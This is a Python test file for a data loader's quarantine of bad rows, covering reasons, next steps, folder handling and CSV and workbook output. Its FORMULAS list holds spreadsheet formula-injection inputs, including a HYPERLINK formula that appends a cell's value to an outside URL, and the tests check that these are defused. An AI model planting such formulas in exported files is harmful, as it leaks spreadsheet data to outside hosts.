"""Bad rows: each kind of badness, set aside with its place and reason, and the rest loaded."""

import csv
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tertius.errors import ConflictError, DataError, InputError
from tertius.loading.loader import BadRow, RawRow, Shaped, Written
from tertius.loading.quarantine import SHOWN, Quarantine, bad_row
from tertius.model.entities import Entity
from tertius.model.kinds import EntityType

Graph = Any
MadeUp = Any


def read(path: Path, separator: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=separator))


def place(row: dict[str, str]) -> tuple[int, str, str]:
    found = re.fullmatch(r"line (\d+)(?:, (\w+))?: (.*)", row["reason"], re.DOTALL)
    assert found, row
    return int(found[1]), found[2] or "", found[3]


def test_each_bad_row_is_set_aside_and_the_rest_is_loaded(graph: Graph, alpha: MadeUp) -> None:
    items = [
        *alpha.entities("p1", "o1"),  # lines 2, 3
        alpha.claim("good", "LEADS", "p1", "o1"),
        alpha.claim("unknown entity", "LEADS", "p9", "o1"),
        alpha.claim("swapped", "LEADS", "o1", "p1"),
        alpha.claim("no such kind", "MARRIED_TO", "p1", "o1"),
        InputError("'2012-13' is no date", where="row", next_step="Write EDTF."),
        BadRow("made-up.csv", 9, "name", "\\xff", "not UTF-8", "Save it as UTF-8.", {"name": "\\xff"}),
        alpha.claim("good", "LEADS", "p1", "o1", hedge="possible"),  # the id again
        Entity("x:p1", EntityType.PLACE),  # another type
        alpha.claim("far too long", "NAME", "p1", "x" * 2001),
        alpha.claim("\ud83d", "NAME", "p1", "half"),
        alpha.claim("of somebody else", "NAME", "p1", "Ali").__class__(
            source="beta", record="b", kind="NAME", about=(("subject", "x:p1"),), value="Ali"
        ),
        KeyError("a column that the loader did not foresee"),
        alpha.claim("last", "NAME", "p1", "Ali"),
    ]
    report = graph.load(alpha.document(items), batch=3)

    assert (report.rows, report.bad_rows, report.new) == (15, 11, 2)
    assert report.quarantine is not None
    found = read(report.quarantine / "made-up.csv")
    assert tuple(found[0]) == ("row", "reason", "next_step", "unread")
    assert sorted((line, column, reason[:25]) for line, column, reason in map(place, found)) == [
        (5, "subject", "There is no entity x:p9"),
        (6, "subject", "The subject of LEADS is a"),
        (7, "kind", "There is no kind 'MARRIED"),
        (8, "row", "'2012-13' is no date"),
        (9, "name", "not UTF-8"),
        (10, "", "The row has the same key "),
        (11, "type", "x:p1 is a Person already,"),
        (12, "value", "The value has 2,001 chara"),
        (13, "record", "The record holds half a c"),
        (14, "source", "The claim is one of beta,"),
        (15, "", "The loader cannot shape t"),
    ]
    assert all(row["next_step"] for row in found)
    assert next(row["row"] for row in found if place(row)[0] == 8) == "6"
    assert next(row["unread"] for row in found if place(row)[0] == 9) == "name: \\xff", "a column of no other row"
    assert sum(group.count for group in report.groups) == 11
    assert graph.ties() == {("p1", "LEADS", "o1"): 0.95}  # the first of the two, not the second
    assert graph.value("MATCH (e {id: 'x:p1'}) RETURN e.name") == "Ali"


def test_a_row_stands_or_falls_as_one(graph: Graph, alpha: MadeUp) -> None:
    row = Shaped(
        entities=tuple(alpha.entities("p1", "o1")),
        claims=(alpha.claim("a", "LEADS", "p1", "o1"), alpha.claim("b", "LEADS", "o1", "p1")),
    )
    report = graph.load(alpha.document([row, alpha.claim("c", "NAME", "p1", "Ali")]))
    assert (report.bad_rows, report.new, report.entities) == (2, 0, 0)
    assert graph.value("MATCH (e:Entity) RETURN count(e)") == 0


def test_two_types_in_one_row(graph: Graph, alpha: MadeUp) -> None:
    row = Shaped(entities=(alpha.entity("p1"), Entity("x:p1", EntityType.EVENT)))
    assert graph.load(alpha.document([row])).bad[0].column == "type"


def test_two_claims_of_one_id_in_one_row(graph: Graph, alpha: MadeUp) -> None:
    row = Shaped(
        entities=(alpha.entity("p1"),),
        claims=(alpha.claim("a", "NAME", "p1", "Ali"), alpha.claim("a", "NAME", "p1", "Aly")),
    )
    assert graph.load(alpha.document([row])).bad[0].reason == "The row says two different things under one key, 'a'"


def test_no_folder_without_a_bad_row(graph: Graph, alpha: MadeUp, tmp_path: Path) -> None:
    report = graph.load(alpha.document([alpha.entity("p1")]), quarantine=tmp_path / "none")
    assert report.quarantine is None
    assert not (tmp_path / "none").exists()


def test_by_default_the_folder_is_named_after_the_release(
    graph: Graph, alpha: MadeUp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    report = graph.load(alpha.document([InputError("odd")], version="23/1"), quarantine=None)
    assert report.quarantine == Path("alpha@23_1.quarantine")
    assert len(read(report.quarantine / "made-up.csv")) == 1


def test_what_the_last_load_set_aside_goes_when_a_load_is_clean(graph: Graph, alpha: MadeUp, tmp_path: Path) -> None:
    folder = tmp_path / "bad"
    for items, there in (([InputError("odd")], True), ([InputError("odd")] * 2, True), ([alpha.entity("p1")], False)):
        report = graph.load(alpha.document(items), quarantine=folder)
        assert folder.exists() is there
        assert report.kept_quarantine is None
        if there:
            assert len(read(folder / "made-up.csv")) == len(items)


def test_a_load_that_fails_leaves_what_the_last_one_set_aside(graph: Graph, alpha: MadeUp, tmp_path: Path) -> None:
    graph.load(alpha.document([InputError("odd")]), quarantine=tmp_path / "bad")
    with pytest.raises(DataError, match="the disk was pulled out"):
        graph.load(alpha.document([alpha.entity("p1")] * 2, break_after=1), quarantine=tmp_path / "bad")
    assert len(read(tmp_path / "bad" / "made-up.csv")) == 1


@pytest.mark.parametrize("clean", [True, False])
def test_rows_that_somebody_mends_are_never_lost(graph: Graph, alpha: MadeUp, tmp_path: Path, clean: bool) -> None:
    folder = tmp_path / "bad"
    graph.load(alpha.document([InputError("odd")]), quarantine=folder)
    (folder / "made-up.csv").write_text("an hour's work", encoding="utf-8")

    report = graph.load(alpha.document([alpha.entity("p1") if clean else InputError("odd")]), quarantine=folder)

    assert report.kept_quarantine == (folder if clean else tmp_path / "bad.1")
    assert report.kept_quarantine
    assert (report.kept_quarantine / "made-up.csv").read_text(encoding="utf-8") == "an hour's work"


def test_what_is_no_folder_of_bad_rows_is_left_alone(graph: Graph, alpha: MadeUp, tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "claims.csv").write_text("mine", encoding="utf-8")
    for path in (tmp_path / "mine", tmp_path / "mine" / "claims.csv"):
        with pytest.raises(ConflictError, match="something else"):
            graph.load(alpha.document([InputError("odd")]), quarantine=path)
    assert (tmp_path / "mine" / "claims.csv").read_text(encoding="utf-8") == "mine"
    assert graph.value("MATCH (r:LoadRun) RETURN count(r)") == 0, "refused before anything is written"


def test_a_report_shows_the_first_and_the_file_has_all(tmp_path: Path) -> None:
    with Quarantine(tmp_path / "deep" / "bad") as quarantine:
        for line in range(SHOWN + 5):
            row = {"c": "v\n,\"'", "é": "\udcff"}
            step = f"Did you mean {line}x? Add it." if line else "Did you mean y? Add it."
            quarantine.add(BadRow("f.csv", line, "c", f"v{line}", f"'{line}' is wrong", step, row))
        assert quarantine.count == SHOWN + 5
        assert len(quarantine.first) == SHOWN
        (group,) = quarantine.groups
    assert (group.file, group.column, group.count, group.lines) == ("f.csv", "c", SHOWN + 5, (0, 1, 2, 3, 4))
    assert tuple(group.values) == ("v0", "v1", "v2", "v3", "v4", "v5")
    assert group.reason == "'0' is wrong"
    found = read(tmp_path / "deep" / "bad" / "f.csv")
    assert tuple(found[0]) == ("c", "é", "reason", "next_step")
    assert len(found) == SHOWN + 5
    assert found[3] == {
        "c": "v\n,\"'",
        "é": "\ufffd",
        "reason": "line 3, c: '3' is wrong",
        "next_step": "Did you mean 3x? Add it.",
    }


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_file_is_like_the_one_that_its_rows_come_from(tmp_path: Path, separator: str) -> None:
    written = {"f.txt": Written("f.txt", ("b", "a"), separator)}
    with Quarantine(tmp_path / "bad", written, {"source.yaml": "id: é\n"}) as quarantine:
        quarantine.add(BadRow("f.txt", 2, "", "", "r", "n", {"a": "1;2", "b": "x,y\tz"}, unread='"rest'))
    (row,) = read(tmp_path / "bad" / "f.txt", separator)
    assert list(row.items()) == [
        ("b", "x,y\tz"),
        ("a", "1;2"),
        ("reason", "line 2: r"),
        ("next_step", "n"),
        ("unread", '"rest'),
    ]
    assert (tmp_path / "bad" / "source.yaml").read_text(encoding="utf-8") == "id: é\n"


FORMULAS = ['=HYPERLINK("http://example.org/?"&A1)', "a;=1+1;b", "a\t@SUM(A1)", "two\n=2+2", "＝1", "x,+1", '"=1+1"']


@pytest.mark.parametrize("at", [",", ";", "\t"])
def test_no_text_of_a_bad_row_is_a_formula_wherever_it_is_split(tmp_path: Path, at: str) -> None:
    with Quarantine(tmp_path / "bad") as quarantine:
        for formula in FORMULAS:
            quarantine.add(BadRow("f.csv", 2, "@c", formula, formula, formula, {"id": "x", "@c": formula}))
        quarantine.add(BadRow("f.csv", 3, "lat", "-14.5", "r", "n", {"id": "x", "@c": "-14.5"}))
    with (tmp_path / "bad" / "f.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=at) for cell in row]
    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r＝＋－＠")] == (["-14.5"] if at == "," else [])


def test_a_workbook_is_written_for_rows_of_a_workbook_and_holds_texts(tmp_path: Path) -> None:
    written = {f"sheet {name}": Written("r.xlsx", ("a", "b"), sheet=name) for name in ("claims", "entities")}
    with Quarantine(tmp_path / "bad", written) as quarantine:
        quarantine.add(BadRow("sheet claims", 7, "a", "", "r", "n", {"a": "=1+1", "b": "2012-04"}))
        quarantine.add(BadRow("sheet entities", 9, "", "", "r\x07", "n", {"a": "1", "b": "\udcff"}, unread="rest"))
    book = load_workbook(tmp_path / "bad" / "r.xlsx")
    assert [cell.value for cell in book["claims"][2]] == ["=1+1", "2012-04", "line 7, a: r", "n"]
    assert {(cell.data_type, cell.number_format) for row in book["claims"] for cell in row} == {("s", "@")}
    assert [cell.value for cell in book["entities"][1]] == ["a", "b", "reason", "next_step", "unread"]
    assert [cell.value for cell in book["entities"][2]] == ["1", "\ufffd", "line 9: r\ufffd", "n", "rest"]


def test_a_file_that_cannot_be_written_stops_the_load(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("in the way")
    with Quarantine(tmp_path / "file" / "bad") as quarantine, pytest.raises(DataError, match="set aside"):
        quarantine.add(BadRow("f.csv", 1, "", "", "r", "n"))


def test_the_value_is_that_of_the_column() -> None:
    raw = RawRow("f.csv", 7, {"when": "2012-13", "claim_id": "c1"})
    bad = bad_row(raw, InputError("no date", where="when", next_step="write one"))
    assert (bad.line, bad.column, bad.value, bad.reason, bad.row["claim_id"]) == (7, "when", "2012-13", "no date", "c1")
